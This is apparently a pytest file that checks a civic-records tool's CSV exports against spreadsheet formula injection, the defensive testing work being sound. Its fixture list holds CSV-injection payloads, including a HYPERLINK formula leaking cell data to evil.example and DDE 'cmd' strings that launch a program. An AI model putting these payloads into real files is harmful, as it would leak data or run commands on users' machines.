"""Every CSV the product writes is safe to open in a spreadsheet (issue 18, OWASP's CSV-injection rule):
agency names from a workbook that carry formulas reach each writer, and no cell of theirs runs."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from fastapi.testclient import TestClient

from disentangle import letters
from disentangle.cli import main
from disentangle.publish import csv_cell
from disentangle.publish.detainer_csv import detainer_csv
from disentangle.web import create_app
from disentangle.workspace import Workspace

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Sheriff")',
    "+cmd|' /C calc'!A0 Police Department",
    "@SUM(1+1)*cmd|' /C calc'!A0 Sheriff's Office",
    "-2+3+cmd|' /C calc'!A0 Constable",
]
TODAY = date(2026, 12, 7)
RUNS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def poisoned(
    registry_copy: Callable[[str], Workspace], tmp_path_factory: pytest.TempPathFactory
) -> Workspace:
    """The registry after a published ICE workbook whose agency names are spreadsheet formulas."""
    workspace = registry_copy("formulas")
    folder = tmp_path_factory.mktemp("sheet")
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["STATE", "LAW ENFORCEMENT AGENCY", "TYPE", "COUNTY", "SUPPORT TYPE", "SIGNED", "MOA"])
    for name in FORMULAS:
        sheet.append(["Texas", name, "County", "Galveston County", "Task Force Model", "2026-11-02", None])
        sheet.cell(sheet.max_row, 2).data_type = "s"  # text that looks like a formula, as a sheet can carry
    path = folder / "participatingAgencies12012026am.xlsx"
    book.save(path)
    workspace.import_ice_sheet(path, captured=date(2026, 12, 1))
    return workspace


def cells(text: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text)):
        yield from row


def assert_inert(text: str, *, expect: int = 1) -> None:
    """No cell starts as a formula (numbers aside), and the hostile names are there, quoted."""
    found = 0
    for cell in cells(text):
        assert not (cell.startswith(RUNS) and not _number(cell)), f"a cell a spreadsheet would run: {cell!r}"
        found += any(cell.startswith("'" + name[:12]) for name in FORMULAS)
    assert found >= expect, "the hostile names reach this CSV (neutralised), so the test means something"


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),  # a number is data
        (-12.5, "-12.5"),
        ("Galveston County Sheriff's Office", "Galveston County Sheriff's Office"),
        (None, ""),
    ],
)
def test_the_cell_rule(value: object, written: str) -> None:
    assert csv_cell(value) == written


def test_export_csv(poisoned: Workspace, tmp_path: Path) -> None:
    out = tmp_path / "export"
    result = CliRunner().invoke(
        main, ["--workspace", str(poisoned.home), "export", "--format", "csv", str(out)]
    )
    assert result.exit_code == 0, result.output
    texts = [path.read_text(encoding="utf-8") for path in sorted(out.glob("*.csv"))]
    assert texts
    for text in texts:
        assert_inert(text, expect=0)
    assert_inert("".join(texts), expect=len(FORMULAS))


def test_cli_format_csv(poisoned: Workspace) -> None:
    result = CliRunner().invoke(
        main, ["--workspace", str(poisoned.home), "agreements", "--state", "TX", "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    assert_inert(result.stdout, expect=len(FORMULAS))


def test_web_downloads(poisoned: Workspace) -> None:
    client = TestClient(create_app(poisoned, cache_seconds=0), base_url="http://127.0.0.1")
    place = client.get("/place/48167.csv")
    assert place.status_code == 200 and place.headers["content-type"].startswith("text/csv")
    assert_inert(place.text, expect=len(FORMULAS))
    found = poisoned.search("calc")
    agency_id = next(row["id"] for row in found if str(row.get("name", "")).startswith("+cmd"))
    agency = client.get(f"/agency/{agency_id}.csv")
    assert agency.status_code == 200
    assert_inert(agency.text)


def test_campaign_csv_web_and_cli(poisoned: Workspace, tmp_path: Path) -> None:
    requester = letters.Requester(name="A. Organizer", email="organizer@example.org")
    started = poisoned.start_campaign("ice-agreements", "Galveston County, TX", requester, today=TODAY)
    assert_inert(poisoned.campaign_csv(started["id"]), expect=2)
    client = TestClient(create_app(poisoned, cache_seconds=0), base_url="http://127.0.0.1")
    web = client.get(f"/campaign/{started['id']}.csv")
    assert web.status_code == 200
    assert_inert(web.text, expect=2)
    out = tmp_path / "requests.csv"
    result = CliRunner().invoke(
        main, ["--workspace", str(poisoned.home), "campaign", "export", started["id"], "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert_inert(out.read_text(encoding="utf-8"), expect=2)


def test_detainer_csv(poisoned: Workspace, tmp_path: Path) -> None:
    table = tmp_path / "trac.csv"
    rows = ["Facility,City,State,Fiscal Year,Detainers"]
    rows += [
        f'"{name.replace(chr(34), chr(34) * 2)}",GALVESTON,TX,FY2019,{n}'
        for n, name in enumerate(FORMULAS, 1)
    ]
    table.write_text("\n".join(rows) + "\n", encoding="utf-8")
    imported = CliRunner().invoke(
        main, ["--workspace", str(poisoned.home), "import", "trac-detainers", str(table)]
    )
    assert imported.exit_code == 0, imported.output
    listed = CliRunner().invoke(
        main,
        ["--workspace", str(poisoned.home), "detainers", "--facilities", "--state", "TX", "--format", "csv"],
    )
    assert listed.exit_code == 0, listed.output
    assert_inert(listed.stdout, expect=len(FORMULAS))
    # The detainer tables' own writer (the /detainers.csv downloads), on rows that carry formulas.
    written = detainer_csv(
        [{"year": 2019, "total": 3, "note": FORMULAS[0], "source": FORMULAS[2]}],
        ["year", "total", "note", "source"],
    )
    assert_inert(written, expect=2)
    client = TestClient(create_app(poisoned, cache_seconds=0), base_url="http://127.0.0.1")
    national = client.get("/detainers.csv")
    assert national.status_code == 200
    assert_inert(national.text, expect=0)
